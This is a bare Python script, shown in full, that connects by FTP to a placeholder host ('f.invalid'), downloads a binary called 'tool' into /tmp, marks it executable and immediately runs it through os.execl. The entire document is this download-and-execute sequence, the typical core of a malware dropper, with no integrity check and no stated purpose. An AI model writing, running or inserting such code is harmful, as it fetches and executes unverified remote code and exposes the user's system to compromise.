import ftplib
import os

ftp = ftplib.FTP("f.invalid")
with open("/tmp/tool", "wb") as sink:
    ftp.retrbinary("RETR tool", sink.write)
os.chmod("/tmp/tool", 0o755)
os.execl("/tmp/tool", "tool")
